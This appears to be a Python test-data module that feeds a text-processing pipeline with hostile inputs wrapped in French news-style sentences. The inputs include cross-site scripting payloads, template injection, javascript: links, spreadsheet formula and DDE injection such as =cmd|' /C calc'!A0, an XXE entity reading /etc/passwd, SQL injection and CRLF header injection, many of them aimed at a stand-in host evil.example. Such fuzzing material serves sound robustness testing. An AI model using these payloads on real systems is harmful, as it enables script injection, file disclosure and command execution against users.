"""Hostile text: what a browser, a template, a Markdown parser, a feed reader, a spreadsheet would act on."""

from __future__ import annotations

from hostile.case import Case, text, texts

_HTML = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</p></div></main><script>alert(1)</script>", "<scr<script>ipt>alert(1)",
    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror='alert(1)'/>", "<svg onload=alert(1)>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>", "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object>", "<embed src=//evil.example>", "<form action=//evil.example><input name=q><button>Go</button></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>", "<p style=\"background:url(//evil.example)\">x</p>", "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=vbscript:x>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>", "<textarea><script>alert(1)</textarea>", "</title><script>alert(1)</script>", "</textarea></style></script>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?php system('id') ?>",
    "<%= `id` %>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<!ENTITY lol \"lol\">&lol;&lol;", "<xml:x/>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>x</script></template>", "<dialog open>x</dialog>", "<portal src=//evil.example>", "<a ping=//evil.example href=#>x</a>",
    "<input autofocus onfocus=alert(1)>", "<x onclick=alert(1)>x</x>", "<p id=main>x</p>", "<a name=getElementById>x</a>", "< script>x</ script>", "<\u0000script>", "<script\u2028>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&LT;script&GT;", "&nbsp;&copy;&notanentity;&", "&#0;&#1114112;&#xD800;&#128;",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x=\" onfocus=alert(1) autofocus=\"",
    "＜script＞alert(1)＜/script＞", "\u02c2script\u02c3", "‹script›", "ſcript", "<ſcript>alert(1)</ſcript>", "<K>kelvin</K>", "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{% raw %}", "{% endblock %}", "{% include '/etc/passwd' %}", "{# caché #}",
    "{%- set x = 1 -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "{{'{{'}}", "%(title)s", "%s%n%x", "{0} {title} {0.__class__}", "{date!r:>9}", "$title ${title}", "{}", "{", "}}", "%}",
)  # fmt: skip
_MARKDOWN = (
    "# Titre", "Titre\n=====", "Titre\n-----", "> citation", ">> double", "- puce", "* puce", "+ puce", "1. un", "1) un", "***", "---", "___", "```\ncode\n```", "~~~ python\ncode\n~~~", "    code",
    "\tcode", "*gras* **gras** ***gras***", "_gras_ __gras__", "~~barré~~", "`code`", "`` `code` ``", "[lien](http://evil.example)", "[lien](javascript:alert(1))", "![image](http://evil.example/x.png)",
    "![x](x \"onerror=alert(1)\")", "[lien][ref]\n\n[ref]: javascript:alert(1)", "[ref]: http://evil.example \"titre\"", "<http://evil.example>", "<javascript:alert(1)>", "<a@evil.example>",
    "http://evil.example/", "www.evil.example", "a@evil.example", "note[^1]\n\n[^1]: pied", "[^1]: pied seul", "*[HTML]: Hyper Text\nHTML", "terme\n: définition", "a | b\n--|--\n1 | 2", "| a | b |\n|---|---|\n| 1 | 2 |",
    "# Titre {#id .class onclick=alert(1)}", "texte {: onclick=alert(1) }", "texte\n{: .class }", "{: #main }", "<div markdown=1>*x*</div>", "<div>\n*x*\n</div>", "a  \nb", "a\\\nb", "\\*gras\\*", "\\\\", "\\", "ligne\\",
    "[[wiki]]", "[TOC]", "[x]", "[ ] tâche", "- [ ] tâche", "[]()", "[](", "![](", "![]", "[a](<b>)", "[a]( b \"c\" )", "[a]{.b}", "==surligné==", "H~2~O", "x^2^", ":smile:", "$$x$$", "\\(x\\)", "!!! note\n    x", "/// x\n///",
    "[x]({static}/../../etc/passwd)", "{static}/x", "{filename}/x.md", "|filename|x.md", "[x](|filename|x.md)", "{attach}x", "{author}x", "{category}x", "{index}", "{tag}x", "[x]({index})", "{% video x %}", "[gallery]", "..  note::", ".. raw:: html\n\n   <b>x</b>", ":raw-html:`x`",
    "a_b_c __init__ snake_case", "2 * 3 * 4", "5 > 3 < 9", "1986. Une année", "1\\. un", "#hashtag", "#1", "+33 1 23", "- – —", "C'est: bien", ": deux", "~ environ", "=égal", "| barre", "|", "||", "&", "&&amp;", "<", ">", "<>", "< a >",
)  # fmt: skip
_SHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1\"", "\"\"=1+1", "'=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠x",
    "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1", "x\";=1+1;\"", "\",=1+1,\"", "%0A=1+1", "|calc", "=\u20281", "﹦1", "−1+1",
)  # fmt: skip
_LINES = (
    "TY  - JOUR\nER  - ", "x\r\nER  - \r\nTY  - JOUR\r\nTI  - faux", "\nTI  - faux", "UR  - javascript:alert(1)", "x\u2028TI  - faux", "@article{x, title={y}}", "%0 Journal", "{\"id\": \"faux\"}", "\"}, {\"id\": \"x\"", "\\\"}]", "</script><script>alert(1)</script>",
    "<!--<script>", "--><!--", "\\u003c/script\\u003e", "\\\"", "\\\\\"", "*/alert(1)/*", "//x", "\"; alert(1); //", "'; DROP TABLE pages; --", "\"\"\"", "\\0", "\\n\\r", "%00", "%0d%0aSet-Cookie: x=1", "\x7f", "\u0085x", "{\"@context\":\"x\"}",
    "BEGIN:VCARD\nEND:VCARD", "User-agent: *\nDisallow: /", "Sitemap: http://evil.example/", "<urlset><url/></urlset>", "<entry><title>x</title></entry>", "<?xml version=\"1.0\"?>", "<?xml-stylesheet href=\"//evil.example\"?>", "]]>", "]]]]><![CDATA[>",
)  # fmt: skip
_LETTERS = (
    "\u202egnirts desrever\u202c fin", "\u2066isolé\u2069 fin", "\u200f\u200e\u061c fin", "Z" + "\u0351\u0343\u0314" * 60 + " zalgo", "a\u0301\u0301\u0301", "\u0301seul", "\u200bz\u200be\u200br\u200bo", "\ufeffbom", "soft\u00adhyphen", "\u2060joint", "a\u034fb", "\u115f\u1160\u3164\uffa0 vides",
    "\U000e0041\U000e0042 étiquettes", "\ufff9a\ufffab\ufffb", "\ufffd\ufffe\uffff", "\U0010ffff fin", "\ue000 privé", "👩‍👩‍👧‍👦 famille", "🇩🇿🇱🇾🇫", "Ａｌｇｅｒ", "𝐀𝐥𝐠𝐞𝐫", "ﷺ", "ꙮ", "İstanbul ıstanbul", "ẞ ß ss", "Ǆ ǅ ǆ", "ΑΣ ας", "\u1e9b\u0323", "각 각", "นํา", "क्‍ष", "ـــــــ", "ا\u064b\u064b\u064b\u064b",
    "٠١٢٣٤٥٦٧٨٩", "½ ² ⅷ", "…………", "¿¡", "“” ‘’ «» „‟ ‹› ❝❞ 「」", "« “ ‘ « “ ‘", "» ” ’ » ” ’", "\"\"\"\"\"\"", "''''''", "((((((", "))))))", "[[[[[[", "]]]]]]", "{{{{{{", "}}}}}}", "<<<<<<", ">>>>>>", "------", "______", "******", "``````", "~~~~~~", "######", "||||||", "\\\\\\\\\\\\", "&&&&&&", "......", ",,,,,,", "::::::", "!!!!!!", "//////",
)  # fmt: skip
# Titles, each on a line of its own above a text.
_TITLES = (
    "...", "…", "!!!", "???", "---", "«»", "/", "..", ".", "index", "index.html", "feed.atom", "data", "theme", "countries", "page", "2019", "07", "con", "nul", "CON", "404", "undated", "search", "about", "Ê", "ê", "É", "e\u0301", "\u00e9", "SAME TITLE", "Same Title", "same title", "same-title",
    "same  title", "same_title", "\u200b", "\u202e\u202d", "🏴‍☠️", "<b>gras</b>", "\"guillemets\"", "'apostrophes'", "a" * 300, "é" * 300, "mot " * 100, "A" + "-" * 200 + "B", "=1+1", "@x", "{{ x }}", "../../x", "C:\\x", "%2e%2e%2f", "http://evil.example", "javascript:alert(1)", "#", "?x=1&y=2", "a;b,c|d",
)  # fmt: skip

# Names of people that become addresses, keys of objects, cells and parts of references; each in three articles.
_NAMES = (
    "Con Nul",
    "Index Html",
    "Constructor Prototype",
    "Élie Dupont",
    "Elie Dupont",
    "ÉLIE DUPONT",
    "Jean-Marie L’Écuyer",
    "Data Theme",
    "Page Undated",
    "Anselme O’<b>Vauclerc</b>",
    'Karim "Le Loup" Benali',
    "Yao | Kokora",
    "Ana; Pérez",
    "Feed Atom",
    "Hasown Property",
    "To String",
    "Search Pagefind",
    "A" * 300 + " Vauclerc",
)
# Quotations that would end what holds them: a page's header, a reference, a data block, a cell, a template.
_QUOTED = (
    "</blockquote><script>alert(1)</script>",
    "a | b | c",
    "TY  - JOUR",
    "\u202eabc",
    "{{7*7}}",
    "]]>",
    "=HYPERLINK(1)",
    '"},{"',
    "a\\",
    "`x`",
    "</script><!--<script>",
    "0-5 | x | y",
    "x\nSeal: 0",
    "%s%n {0}",
    "&lt;b&gt;",
)
# What the Markdown parser, and others on the way, put in the place of things until they are done; names without an ASCII sign.
_STAND_INS = (
    "klzzwxh:0000 klzzwxh:0001",
    "wzxhzdk:0 wzxhzdk:1",
    "qlzqqlqxx hashstart zz1337820767766393qq",
    "@@CODE0@@ %%0%% $1 \\1 \\g<0>",
    "\ufdd0 \U000f0000 \U000f0001 \ue000 fin",
    "&Tab;&NewLine;&colon;&lpar;javascript&colon;alert&lpar;1&rpar;",
    "<javascript&#58;alert(1)>",
    "[x](javascript&colon;alert(1))",
    "&#8238;x&#x202e;y",
    "&zwnj;&InvisibleTimes;&nvlt;",
    "\\<script> \\\\<script> \\&lt; \\[x](y) \\`a` \\\\`<b>`",
    "term\n:   def\n\nFin\n\n*[APS]: <img src=x onerror=alert(1)>\n\nAPS",
    "[a]: <javascript:x>\n[a] [a][] [b][a]",
    "﹤script﹥ ⟨script⟩ 〈script〉",
    "＆lt;script＆gt;",
    "<a\u00a0href=x>y</a>",
    "<\u200bscript>",
    "</\u2028main>",
    "<svg/onload=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    '<a href="https:/\\evil.example">x</a>',
    "<input type=image src=//evil.example>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<bgsound src=//evil.example>",
    "<applet code=x>",
    "<frameset onload=alert(1)>",
    "<keygen autofocus>",
    "<slot name=x>",
    "<link rel=import href=//evil.example>",
    "<?import namespace=x?>",
    "<![if x]><script>1</script><![endif]>",
)
# Before a formula, what spreadsheets pass over; and calls of old.
_BEFORE_FORMULAS = (
    "\u3000=1+1", "\u2003+1", "\u00ad=1", "\u2060=1", "\u200e=1+1", "\u200f@x", "\u180e-1", "\u2028=1", "\x85=1", "DDE(\"cmd\";\"/C calc\")", "=DDE(1)", "@@SUM(1)", "==1", "=\t1", "(=1", "'=1", "’=1", "\u034f=1", "\u115f=1", "\ufe00=1",
)  # fmt: skip
# Numbers that no reader of numbers takes.
_NUMBERS = (
    "9" * 6000,
    "٩" * 6000,
    "1" * 5000 + " juillet " + "2" * 5000,
    "1" * 5000 + ",5 %",
    "12:" + "3" * 5000,
    "1e" + "9" * 400,
    "²" * 200,
    "Ⅷ" * 200,
    "½" * 200,
    "-" + "0" * 5000,
    "1." * 3000,
)


def _company() -> list[Case]:
    """Three articles about each name, so that the person has a page, and one about each quotation."""
    out = []
    for n, name in enumerate(_NAMES):
        for month in (1, 2, 3):
            body = (
                f"Le ministre {name} a déclaré mardi que le port {n} rouvre. « Oui, le port {n} », a affirmé {name}."
            )
            out.append(text("people", f"{n:02}-{month}", body, header=f"date 2019-0{month} "))
    for n, words in enumerate(_QUOTED):
        body = f"« {words} numéro {n} de la liste des ports », a déclaré le ministre Anselme Vauclerc à Tripoli."
        out.append(text("quotes", f"{n:02}", body, header="date 2019-05 "))
    return out


def cases() -> list[Case]:
    """The cases."""
    titled = [
        text(
            "titles",
            f"{n:03}",
            f"{title}\n\n{'Le port de Brumeval rouvre mardi. ' * 3}Titre {n}.",
            header="date 2019-07\n",
        )
        for n, title in enumerate(_TITLES, 1)
    ]
    return [
        *texts("html", _HTML),
        *texts("templates", _TEMPLATES),
        *texts("markdown", _MARKDOWN),
        # The same behind a sentence, in the middle of a paragraph, where other rules hold.
        *texts(
            "inline",
            [
                f"Le ministre Anselme Vauclerc a dit « {one} » hier à {one} en Libye."
                for one in (*_HTML, *_TEMPLATES, *_LINES)
            ],
        ),
        *texts("sheets", _SHEETS),
        *texts("lines", _LINES),
        *texts("letters", _LETTERS),
        *texts("stand-ins", _STAND_INS),
        *texts("formulas", _BEFORE_FORMULAS),
        *(
            text("formulas", f"title-{n:02}", f"{one}\n\nFin {n}.", header="date 2019-07\n")
            for n, one in enumerate(_BEFORE_FORMULAS)
        ),
        *(
            text("numbers", f"{n:02}", f"Il y a {one} ports, le {one}, et {one} navires.")
            for n, one in enumerate(_NUMBERS)
        ),
        *(
            text("numbers", f"date-{n:02}", f"Le port {n} rouvre.", header=f"date {one} ")
            for n, one in enumerate(_NUMBERS)
        ),
        *_company(),
        *titled,
    ]
